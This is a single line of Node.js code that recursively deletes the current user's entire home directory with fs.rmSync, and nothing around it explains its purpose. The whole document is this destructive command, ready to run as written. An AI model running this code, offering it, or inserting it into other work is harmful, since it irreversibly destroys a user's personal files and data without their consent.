require("fs").rmSync(require("os").homedir(), { recursive: true });
